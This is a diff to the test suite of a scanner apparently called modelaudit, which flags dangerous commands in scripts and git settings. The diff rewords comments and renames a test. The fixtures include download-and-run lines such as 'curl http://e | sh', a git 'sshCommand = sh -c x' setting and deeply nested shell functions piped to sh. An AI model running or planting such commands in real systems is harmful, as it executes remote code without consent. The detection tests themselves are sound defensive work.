@@ -18,7 +18,7 @@ from modelaudit.wire.base import LimitReachedError
 
 
 def list_mentions(reading):
-    """Return the use and the name of each mention, in the order of the file."""
+    """Return the use and the name of each mention, in the order in which the readers yield them."""
     return [(mention.use, mention.name) for outline in reading.of(Outline) for mention in outline.mentions]
 
 
@@ -340,6 +340,7 @@ def test_ordinary_launcher_or_installer_gives_no_high_finding(text):
 
 
 def test_analysis_of_deeply_nested_shell_functions_or_calls_stops_at_its_bound():
+    # Definitions inside each other, and 60 functions each of which calls the next one twice: 2**60 calls.
     for script in ("f(){" * 20_000, "".join(f"f{n}() {{ f{n + 1}; f{n + 1}; }}\n" for n in range(60)) + "f0 | sh"):
         with pytest.raises(LimitReachedError):
             list(collect_script_mentions(script))
@@ -398,15 +399,15 @@ def test_git_hook_is_reported(read_bytes):
 
 
 def test_git_setting_that_runs_a_command_is_reported(read_bytes):
-    # A backslash at the end of a comment continues nothing, but one at the end of a quoted mark of comments does.
+    # A backslash at the end of a line continues it. In a comment it does not; the "#" in quotes begins no comment.
     for line_before in ("", "# x \\\n", "a = b ; x \\\n", 'a = "b # c" \\\n\n'):
         settings_text = f"[core]\n{line_before}sshCommand = sh -c x\n".encode()
         assert list_mentions(read_bytes(settings_text, ".git/config")) == [("git-command", "core.sshcommand")]
 
 
 def test_usual_git_settings_give_no_mentions(read_bytes):
-    lfs = b'[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[core]\n\teditor = vim\n'
-    assert list_mentions(read_bytes(lfs, ".gitconfig")) == []
+    settings_text = b'[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[core]\n\teditor = vim\n'
+    assert list_mentions(read_bytes(settings_text, ".gitconfig")) == []
 
 
 def test_command_of_a_desktop_entry_is_reported(read_bytes):
@@ -447,7 +448,7 @@ def test_python_program_inside_a_shell_script_is_read_as_an_artifact(read_bytes)
     assert [path for path, _ in reading.structures if "!" in path] == ["a.sh!line-2.py", "a.sh!line-5.py"]
 
 
-def test_commands_before_damage_are_reported(read_bytes):
+def test_shell_commands_before_damage_are_reported(read_bytes):
     reading = read_bytes(b"curl http://e | sh\n" + b"#\n" * 3000 + b"\0", "a.sh")
     assert list_mentions(reading) == [("download-and-run", "http://e")]
     assert UnreadReason.DAMAGED in reading.reasons()
@@ -479,8 +480,8 @@ def test_analysis_of_a_very_long_pipeline_stops_at_its_bound_after_the_first_men
     uses = []
     with pytest.raises(LimitReachedError, match="nested and piped commands"):
         uses.extend(each.use for each in collect_script_mentions("curl http://a/b | sh" + " | sh" * 20_000))
-    # Each of them costs a look at all before it: 700 are 245,000 looks, and only the uses found there matter.
     assert set(uses) == {"download-and-run"}
+    # For each command, the analysis goes through all commands before it, so 700 commands would take 245,000 steps.
     assert 100 < len(uses) < 700
 
 
